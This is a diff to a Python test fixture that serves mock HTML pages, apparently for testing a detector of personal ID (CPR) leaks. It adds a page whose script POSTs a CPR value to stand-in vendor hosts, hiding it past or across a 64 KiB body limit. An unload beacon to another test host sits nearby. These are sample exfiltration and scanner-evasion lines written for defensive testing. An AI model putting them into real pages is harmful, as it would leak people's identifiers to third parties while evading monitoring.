@@ -64,6 +64,15 @@ addEventListener("pagehide", () => {{
   fetch("http://keep.unloadvendor.test/k?cpr={CPR}", {{keepalive: true, mode: "no-cors"}});
 }});
 </script>"""
+# Two uploads above a 64 KiB body limit: the CPR at the very end of one, and across the edge of
+# the first 64 KiB window of the other.
+BIG_BODIES = f"""<!doctype html><script>
+const fill = n => "x".repeat(n);
+for (const [host, body] of [
+  ["end.bigvendor.test", fill(300000) + "&cpr={CPR}"],
+  ["edge.bigvendor.test", fill(65536 - 5) + "{CPR}" + fill(100000)],
+]) fetch("http://" + host + "/upload", {{method: "POST", mode: "no-cors", body}});
+</script>"""
 # Three pixels with one URL: the page's image cache sends it once.
 POPUP = """<!doctype html><script>
 const here = new URLSearchParams(location.search);
@@ -99,6 +108,7 @@ def routes() -> dict:
         f"{PORTAL}/popups": Response(POPUP_STORM),
         f"{PORTAL}/popup": Response(POPUP),
         f"{PORTAL}/unload": Response(UNLOAD),
+        f"{PORTAL}/big-bodies": Response(BIG_BODIES),
         "px.unloadvendor.test/bye.gif": Response(GIF, "image/gif"),
     }
 
